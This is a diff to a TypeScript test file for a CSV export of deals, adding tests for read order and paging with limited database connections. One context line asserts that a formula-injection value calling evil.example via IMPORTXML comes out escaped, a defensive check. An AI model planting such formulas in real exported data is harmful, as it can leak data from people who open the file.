@@ -1,12 +1,15 @@
-import { afterEach, expect, test } from "vitest";
+import { afterEach, expect, onTestFinished, test } from "vitest";
 import { HOUR_MS } from "../../platform/clock/durations.ts";
+import { createTestPools } from "../../platform/db/test-pools.ts";
 import { newId } from "../../platform/db/uuid.ts";
+import { createWithUser, type WithUser } from "../../platform/db/with-user.ts";
 import { testServer } from "../../test/server.ts";
 import { testDeal } from "../deals/test-deal.ts";
 import { testChannel, testDgPlan } from "../dg-plans/test-dg-plan.ts";
 import { testDetails } from "../gtm-plans/test-plan.ts";
 import { testCost } from "../product-costs/test-cost.ts";
 import { testSimulation } from "../simulations/test-simulation.ts";
+import { dealPages } from "./deal-pages.ts";
 
 const server = testServer({ user: "per test", plan: "enterprise", rateLimits: 1_000 });
 let moved = 0;
@@ -44,6 +47,51 @@ test("deals are read without a session, numbers as numbers and no text as a form
   );
   expect(deal).toContain(`"'=IMPORTXML(""https://evil.example"")"`);
   expect(deal).toContain(",1234.5,");
+});
+
+async function storeMany(count: number): Promise<void> {
+  await server.query(
+    `insert into deals (owner_id, id, source, external_id, status, amount_cents)
+     select $1, ('01980000-0000-7000-8000-' || lpad(n::text, 12, '0'))::uuid, 'manual', 'D' || n, 'open', 100
+     from generate_series(1, $2::int) as n order by md5(n::text)`,
+    [server.user.userId, count],
+  );
+}
+
+test("many deals are each read once, in the order in which they were stored", async () => {
+  await storeMany(4_000);
+  const { token } = await create("deals");
+  const [, ...lines] = await linesOf(token);
+  expect(lines.map((line) => line.split(",")[0])).toEqual(
+    Array.from({ length: 4_000 }, (_, index) => `"D${index + 1}"`),
+  );
+});
+
+test("deals that several tables have are read a page at a time", async () => {
+  await storeMany(4_500);
+  const pools = createTestPools(server.database, { maximumConnections: 3 });
+  onTestFinished(() => pools.close());
+  const withUser = createWithUser(pools.app);
+  const reads = { open: 0, most: 0 };
+  const report: WithUser["report"] = async (userId, work) => {
+    reads.open += 1;
+    reads.most = Math.max(reads.most, reads.open);
+    try {
+      return await withUser.report(userId, work);
+    } finally {
+      reads.open -= 1;
+    }
+  };
+  const counted: WithUser = Object.assign(withUser.bind(undefined), { read: withUser.read, report });
+  const linesOfPages = async () => {
+    const lines: number[] = [];
+    for await (const page of dealPages(counted, server.user.userId))
+      lines.push(page.split("\r\n").length - 1);
+    return lines;
+  };
+  const tables = await Promise.all([linesOfPages(), linesOfPages(), linesOfPages()]);
+  expect(tables).toEqual(tables.map(() => [1, 2_000, 2_000, 500]));
+  expect(reads).toEqual({ open: 0, most: 1 });
 });
 
 test("a GTM plan is read by month, and its channels by month, in the same sums", async () => {
